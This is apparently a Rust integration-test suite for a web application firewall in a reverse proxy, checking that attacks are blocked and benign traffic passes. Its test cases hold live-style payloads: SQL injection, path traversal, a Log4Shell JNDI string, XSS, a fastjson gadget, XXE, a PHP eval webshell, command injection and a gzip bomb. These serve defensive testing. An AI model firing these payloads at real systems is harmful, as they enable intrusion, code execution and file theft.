//! The WAF through the real proxy: attacks in every place a value can go are blocked before the
//! origin sees them (bodies included), detect mode logs without blocking, exclusions fix false
//! positives, the audit log redacts secrets, broken rulesets never replace working ones, and the
//! benign corpus passes.

mod common;
use common::*;
use std::time::{Duration, Instant};

fn site(backend: std::net::SocketAddr, waf: &str) -> String {
    format!(
        "{}\n[waf]\n{waf}\n",
        simple_site("s", "s.test", &[backend], "")
    )
}

fn rulesets_global(dir: &std::path::Path) -> String {
    format!("rulesets_dir = \"{}\"", dir.display())
}

fn shipped_rulesets() -> std::path::PathBuf {
    std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("rulesets")
}

/// (name, method, path, headers, body)
type Case = (
    &'static str,
    &'static str,
    &'static str,
    Vec<(&'static str, &'static str)>,
    Option<Vec<u8>>,
);

async fn send(
    g: &Gateway,
    method: &str,
    path: &str,
    headers: &[(&str, &str)],
    body: Option<Vec<u8>>,
) -> (u16, String) {
    let mut r = client()
        .request(method.parse().unwrap(), g.url(path))
        .header("host", "s.test");
    for (k, v) in headers {
        r = r.header(*k, *v);
    }
    if let Some(b) = body {
        r = r.body(b);
    }
    let resp = r.send().await.unwrap();
    let s = resp.status().as_u16();
    (s, resp.text().await.unwrap_or_default())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attacks_everywhere_are_blocked_before_the_origin() {
    let o = origin("o").await;
    let g = Gateway::start(
        &[("s", site(o.addr, "mode = \"block\"\nparanoia = 1"))],
        &rulesets_global(&shipped_rulesets()),
        "",
    );
    let multipart = b"--XyZ\r\nContent-Disposition: form-data; name=\"file\"; filename=\"logo.jpg\"\r\nContent-Type: image/jpeg\r\n\r\n<?php @eval($_POST['cmd']); ?>\r\n--XyZ--\r\n".to_vec();
    let cases: Vec<Case> = vec![
        ("query", "GET", "/news?id=1%27%20union%20select%201,2,database()--%20-", vec![], None),
        ("path traversal", "GET", "/download?file=../../../../etc/passwd", vec![], None),
        ("header", "GET", "/", vec![("user-agent", "${jndi:ldap://evil.example/a}")], None),
        ("cookie", "GET", "/", vec![("cookie", "lang=<script>alert(document.cookie)</script>")], None),
        ("scanner", "GET", "/", vec![("user-agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")], None),
        ("sensitive file", "GET", "/.git/config", vec![], None),
        // Bodies last: their header reaches the origin (counted there a moment later), which
        // must not land in a bodiless case's check.
        ("urlencoded", "POST", "/login", vec![("content-type", "application/x-www-form-urlencoded")], Some(b"user=admin&pass=x%27%20or%20%271%27%3D%271".to_vec())),
        ("json", "POST", "/api/x", vec![("content-type", "application/json")], Some(br#"{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x.example/a","autoCommit":true}"#.to_vec())),
        ("xml", "POST", "/api/xml", vec![("content-type", "application/xml")], Some(br#"<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>"#.to_vec())),
        ("multipart webshell", "POST", "/upload", vec![("content-type", "multipart/form-data; boundary=XyZ")], Some(multipart)),
    ];
    for (name, method, path, headers, body) in cases {
        let hits = o.hits();
        let has_body = body.is_some();
        let (s, page) = send(&g, method, path, &headers, body).await;
        assert_eq!(s, 403, "{name}: not blocked");
        assert!(page.contains("访问被拒绝"), "{name}: no block page");
        if !has_body {
            assert_eq!(o.hits(), hits, "{name}: reached the origin");
        }
    }
    // pingora sends the request header upstream before the body; the body itself is held back
    // until inspected, so the origin never receives a blocked body.
    assert_eq!(o.bodies(), 0, "a blocked body reached the origin");
    // Clean requests of the same shapes pass, bodies intact.
    let (s, body) = send(
        &g,
        "POST",
        "/login",
        &[("content-type", "application/x-www-form-urlencoded")],
        Some(b"user=zhang&pass=Secret-2024".to_vec()),
    )
    .await;
    assert_eq!(s, 200);
    assert_eq!(echo(&body)["body_len"], 27);
    let (s, _) = send(
        &g,
        "GET",
        "/search?q=%E6%94%BF%E5%8A%A1%E5%85%AC%E5%BC%80&page=2",
        &[],
        None,
    )
    .await;
    assert_eq!(s, 200);
    // Metrics and access log carry the rule ids.
    let m = metrics(&g).await;
    assert!(
        m.contains("egret_waf_rule_matches_total{action=\"block\",rule=\""),
        "{m}"
    );
    assert!(m.contains("action=\"blocked\""), "{m}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_blocked_body_never_reaches_the_origin_even_chunked() {
    let o = origin("o").await;
    let g = Gateway::start(
        &[("s", site(o.addr, ""))],
        &rulesets_global(&shipped_rulesets()),
        "",
    );
    let payload = "cmd=%3Bcat%20%2Fetc%2Fpasswd";
    let raw = format!(
        "POST /submit HTTP/1.1\r\nHost: s.test\r\nContent-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\n\r\n{:x}\r\n{}\r\n{:x}\r\n{}\r\n0\r\n\r\n",
        10,
        &payload[..10],
        payload.len() - 10,
        &payload[10..]
    );
    let resp = raw_request(g.http, raw.as_bytes()).unwrap();
    assert_eq!(parse_status(&resp), Some(403), "{resp}");
    assert_eq!(o.bodies(), 0, "the origin received a body that was blocked");
    // A clean chunked body arrives whole.
    let raw = "POST /submit HTTP/1.1\r\nHost: s.test\r\nContent-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n5\r\na=1&b\r\n4\r\n=234\r\n0\r\n\r\n";
    let resp = raw_request(g.http, raw.as_bytes()).unwrap();
    assert_eq!(parse_status(&resp), Some(200), "{resp}");
    assert!(resp.contains("\"body_len\":9"), "{resp}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn detect_mode_logs_without_blocking_and_the_audit_log_redacts_secrets() {
    let o = origin("o").await;
    let g = Gateway::start(
        &[("s", site(o.addr, "mode = \"detect\""))],
        &rulesets_global(&shipped_rulesets()),
        "",
    );
    let (s, _) = send(
        &g,
        "POST",
        "/login",
        &[
            ("content-type", "application/x-www-form-urlencoded"),
            ("cookie", "sid=topsecretcookie"),
        ],
        Some(
            b"user=admin&password=%27%20or%201%3D1--%20&q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"
                .to_vec(),
        ),
    )
    .await;
    assert_eq!(s, 200, "detect mode must not block");
    assert_eq!(o.hits(), 1);
    let deadline = Instant::now() + Duration::from_secs(5);
    let line = loop {
        let text = std::fs::read_to_string(g.audit_log()).unwrap_or_default();
        if let Some(l) = text.lines().next() {
            break l.to_string();
        }
        assert!(Instant::now() < deadline, "no audit line");
        tokio::time::sleep(Duration::from_millis(50)).await;
    };
    let v: serde_json::Value = serde_json::from_str(&line).unwrap();
    assert_eq!(v["action"], "detect");
    assert_eq!(v["site"], "s");
    assert!(v["score"].as_u64().unwrap() >= 5);
    assert!(!v["rules"].as_array().unwrap().is_empty());
    assert!(
        !line.contains("or 1=1") || !line.contains("password"),
        "password value not redacted: {line}"
    );
    assert!(
        !line.contains("topsecretcookie"),
        "cookie leaked into the audit log: {line}"
    );
    // The access log carries the WAF fields.
    let deadline = Instant::now() + Duration::from_secs(5);
    loop {
        let log = std::fs::read_to_string(&g.access_log).unwrap_or_default();
        if log.contains("\"waf_action\":\"detect\"") {
            break;
        }
        assert!(Instant::now() < deadline, "{log}");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exclusions_fix_false_positives_without_opening_other_paths() {
    let o = origin("o").await;
    let rich =
        "content=%3Cp%3E%E9%80%9A%E7%9F%A5%3C%2Fp%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E";
    // Without an exclusion the editor's save is blocked.
    let g = Gateway::start(
        &[("s", site(o.addr, ""))],
        &rulesets_global(&shipped_rulesets()),
        "",
    );
    let form = [("content-type", "application/x-www-form-urlencoded")];
    assert_eq!(
        send(
            &g,
            "POST",
            "/admin/article/save",
            &form,
            Some(rich.as_bytes().to_vec())
        )
        .await
        .0,
        403
    );
    drop(g);
    // Rules tagged attack-xss ignore ARGS:content on the editor path only.
    let waf = "[[waf.exclusions]]\ntags = [\"attack-xss\"]\npath = \"/admin/article/save\"\ntarget = \"ARGS:content\"\n";
    let g = Gateway::start(
        &[(
            "s",
            format!("{}\n{waf}", simple_site("s", "s.test", &[o.addr], "")),
        )],
        &rulesets_global(&shipped_rulesets()),
        "",
    );
    assert_eq!(
        send(
            &g,
            "POST",
            "/admin/article/save",
            &form,
            Some(rich.as_bytes().to_vec())
        )
        .await
        .0,
        200
    );
    assert_eq!(
        send(&g, "POST", "/other", &form, Some(rich.as_bytes().to_vec()))
            .await
            .0,
        403,
        "the exclusion leaked to another path"
    );
    let other_arg = "title=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E";
    assert_eq!(
        send(
            &g,
            "POST",
            "/admin/article/save",
            &form,
            Some(other_arg.as_bytes().to_vec())
        )
        .await
        .0,
        403,
        "the exclusion leaked to another argument"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_broken_ruleset_keeps_the_running_rules() {
    let o = origin("o").await;
    let dir = tempfile::tempdir().unwrap();
    for f in ["core.toml", "cn-gov.toml"] {
        std::fs::copy(shipped_rulesets().join(f), dir.path().join(f)).unwrap();
    }
    std::fs::create_dir_all(dir.path().join("data")).unwrap();
    for e in std::fs::read_dir(shipped_rulesets().join("data")).unwrap() {
        let e = e.unwrap();
        std::fs::copy(e.path(), dir.path().join("data").join(e.file_name())).unwrap();
    }
    let g = Gateway::start(&[("s", site(o.addr, ""))], &rulesets_global(dir.path()), "");
    let gen = g.generation();
    std::fs::write(dir.path().join("bad.toml"), "name = \"bad\"\n[[rule]]\nid = 999001\nmsg = \"broken\"\nphase = \"request_headers\"\ntargets = [\"ARGS\"]\noperator = \"rx\"\nargument = \"(unclosed\"\n").unwrap();
    let r = client()
        .post(g.admin_url("/api/v1/reload"))
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 422);
    let text = r.text().await.unwrap();
    assert!(
        text.contains("bad.toml:") && text.contains("999001"),
        "{text}"
    );
    assert_eq!(g.generation(), gen);
    assert_eq!(
        send(
            &g,
            "GET",
            "/news?id=1%27%20union%20select%201,2,3--%20-",
            &[],
            None
        )
        .await
        .0,
        403,
        "old rules stopped working"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn benign_corpus_passes_through_the_proxy() {
    // A sample of the benign corpus (every 10th line), sent for real.
    let o = origin("o").await;
    let g = Gateway::start(
        &[("s", site(o.addr, ""))],
        &rulesets_global(&shipped_rulesets()),
        "",
    );
    let corpus = std::fs::read_to_string(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/waf/benign.jsonl"),
    )
    .unwrap();
    let c = client();
    let mut blocked = Vec::new();
    let mut sent = 0;
    for line in corpus.lines().step_by(10) {
        let v: serde_json::Value = serde_json::from_str(line).unwrap();
        let method = v["method"].as_str().unwrap_or("GET");
        let uri = v["uri"].as_str().unwrap_or("/");
        let Ok(m) = method.parse::<reqwest::Method>() else {
            continue;
        };
        let mut r = c.request(m, g.url(uri)).header("host", "s.test");
        for h in v["headers"].as_array().into_iter().flatten() {
            let (Some(k), Some(val)) = (h[0].as_str(), h[1].as_str()) else {
                continue;
            };
            if ["host", "content-length", "transfer-encoding", "connection"]
                .contains(&k.to_ascii_lowercase().as_str())
            {
                continue;
            }
            r = r.header(k, val);
        }
        if let Some(b) = v["body"].as_str() {
            r = r.body(b.to_string());
        }
        let Ok(resp) = r.send().await else { continue };
        sent += 1;
        if resp.status() == 403 {
            blocked.push(uri.to_string());
        }
    }
    assert!(sent >= 90, "only {sent} sent");
    assert!(blocked.is_empty(), "benign requests blocked: {blocked:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn compressed_bodies_are_inspected_after_decompression() {
    use std::io::Write;
    let o = origin("o").await;
    let g = Gateway::start(&[("s", site(o.addr, ""))], "", "");
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(br#"{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x.example/a","autoCommit":true}"#).unwrap();
    let gz = e.finish().unwrap();
    let h = [
        ("content-type", "application/json"),
        ("content-encoding", "gzip"),
    ];
    assert_eq!(send(&g, "POST", "/api/x", &h, Some(gz)).await.0, 403);
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(r#"{"name":"张三","items":[1,2,3]}"#.as_bytes())
        .unwrap();
    let (s, body) = send(&g, "POST", "/api/x", &h, Some(e.finish().unwrap())).await;
    assert_eq!(s, 200);
    assert!(
        echo(&body)["body_len"].as_i64().unwrap() > 0,
        "the compressed body reaches the origin as sent"
    );
    assert_eq!(o.bodies(), 1);
    // A decompression bomb (20 MB of zeros in a few KB: past ten times the 1 MiB inspection
    // limit) and a corrupt gzip stream are refused, never passed uninspected.
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    e.write_all(&vec![b'0'; 20 * 1024 * 1024]).unwrap();
    let bomb = e.finish().unwrap();
    assert!(bomb.len() < 64 * 1024);
    assert_eq!(send(&g, "POST", "/api/x", &h, Some(bomb)).await.0, 413);
    let corrupt = b"\x1f\x8b\x08\x00garbage-not-deflate".to_vec();
    assert_eq!(send(&g, "POST", "/api/x", &h, Some(corrupt)).await.0, 400);
    let br = [
        ("content-type", "application/json"),
        ("content-encoding", "x-unknown"),
    ];
    assert_eq!(
        send(&g, "POST", "/api/x", &br, Some(b"{}".to_vec()))
            .await
            .0,
        400
    );
    assert_eq!(o.bodies(), 1, "the origin saw none of them");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bodies_over_the_inspection_limit_are_rejected_or_prefix_inspected() {
    let o = origin("o").await;
    let form = [("content-type", "application/x-www-form-urlencoded")];
    let big = format!("a={}", "x".repeat(3000));
    let g = Gateway::start(
        &[(
            "s",
            site(o.addr, "inspect_body_limit = 1024\nover_limit = \"reject\""),
        )],
        "",
        "",
    );
    assert_eq!(
        send(&g, "POST", "/f", &form, Some(big.clone().into_bytes()))
            .await
            .0,
        413
    );
    drop(g);
    let g = Gateway::start(
        &[(
            "s",
            site(
                o.addr,
                "inspect_body_limit = 1024\nover_limit = \"inspect_prefix\"",
            ),
        )],
        "",
        "",
    );
    let (s, body) = send(&g, "POST", "/f", &form, Some(big.clone().into_bytes())).await;
    assert_eq!(s, 200);
    assert_eq!(
        echo(&body)["body_len"],
        big.len(),
        "the whole body is forwarded"
    );
    // An attack inside the inspected prefix is still blocked.
    let attack = format!(
        "q=%3Cscript%3Ealert(1)%3C%2Fscript%3E&a={}",
        "x".repeat(3000)
    );
    assert_eq!(
        send(&g, "POST", "/f", &form, Some(attack.into_bytes()))
            .await
            .0,
        403
    );
}

/// Response phases through the proxy: a data leak in the body (plain and gzip) is replaced by
/// the block page, a backup download is refused at the header, clean pages (HTML over the
/// inspection limit included) arrive intact, and detect mode only logs.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn response_phases_block_leaks_and_pass_clean_pages() {
    use std::io::Write;
    let o = origin("o").await;
    let leak = b"<html><body><b>Error</b>: You have an error in your SQL syntax; check the manual near '1'' at line 1</body></html>".to_vec();
    o.set_response(
        "/leak",
        500,
        &[("content-type", "text/html; charset=utf-8")],
        leak.clone(),
    );
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gz.write_all(&leak).unwrap();
    o.set_page("/leak-gz.html", gz.finish().unwrap(), Some("gzip"));
    o.set_response(
        "/download",
        200,
        &[
            ("content-type", "application/octet-stream"),
            (
                "content-disposition",
                "attachment; filename=\"db_backup.sql\"",
            ),
        ],
        b"CREATE TABLE users (id int);".to_vec(),
    );
    // A clean page larger than the inspection limit: the prefix is held, the rest streams.
    let big: String = "<p>市政府常务会议研究部署民生实事。</p>\n".repeat(4000);
    o.set_page("/big.html", big.clone().into_bytes(), None);
    let waf = "mode = \"block\"\nresponse_body_limit = 16384";
    let g = Gateway::start(
        &[("s", site(o.addr, waf))],
        &rulesets_global(&shipped_rulesets()),
        "",
    );

    let (s, page) = send(&g, "GET", "/leak", &[], None).await;
    assert_eq!(s, 500, "the status line was already sent");
    assert!(
        !page.contains("SQL syntax"),
        "leak reached the client: {page}"
    );
    assert!(page.contains("403"), "block page expected: {page}");
    // The origin's Content-Length was kept (keep-alive framing): the notice is fitted to it.
    assert_eq!(page.len(), leak.len());

    // gzip: reqwest (no gzip feature) gets the bytes as sent; decode them here.
    let resp = client()
        .get(g.url("/leak-gz.html"))
        .header("host", "s.test")
        .header("accept-encoding", "gzip")
        .send()
        .await
        .unwrap();
    assert_eq!(resp.headers()["content-encoding"], "gzip");
    let bytes = resp.bytes().await.unwrap();
    let mut text = String::new();
    std::io::Read::read_to_string(&mut flate2::read::GzDecoder::new(&bytes[..]), &mut text)
        .unwrap();
    assert!(
        !text.contains("SQL syntax") && text.contains("403"),
        "{text}"
    );

    let resp = client()
        .get(g.url("/download"))
        .header("host", "s.test")
        .send()
        .await
        .unwrap();
    assert_eq!(resp.status().as_u16(), 403);
    assert!(resp.headers().get("content-disposition").is_none());
    let body = resp.text().await.unwrap();
    assert!(!body.contains("CREATE TABLE"), "{body}");

    let (s, page) = send(&g, "GET", "/big.html", &[], None).await;
    assert_eq!(s, 200);
    assert_eq!(page.len(), big.len(), "clean page changed in transit");
    assert_eq!(page, big);
    let (s, page) = send(&g, "GET", "/", &[], None).await;
    assert_eq!(s, 200);
    assert!(page.contains("news-list"));

    // The audit log names the response phases.
    let deadline = Instant::now() + Duration::from_secs(5);
    loop {
        let text = std::fs::read_to_string(g.audit_log()).unwrap_or_default();
        if text.contains("\"response_body\"") && text.contains("\"response_headers\"") {
            assert!(text.contains("101500") && text.contains("101506"), "{text}");
            break;
        }
        assert!(
            Instant::now() < deadline,
            "no response-phase audit lines: {text}"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    }

    // Detect mode: the leak is logged, the page passes untouched.
    g.write_site("s", &site(o.addr, "mode = \"detect\""));
    let gen = g.generation();
    g.signal("HUP");
    g.wait_generation(gen);
    let (s, page) = send(&g, "GET", "/leak", &[], None).await;
    assert_eq!(s, 500);
    assert!(
        page.contains("SQL syntax"),
        "detect mode must not alter the page"
    );
}
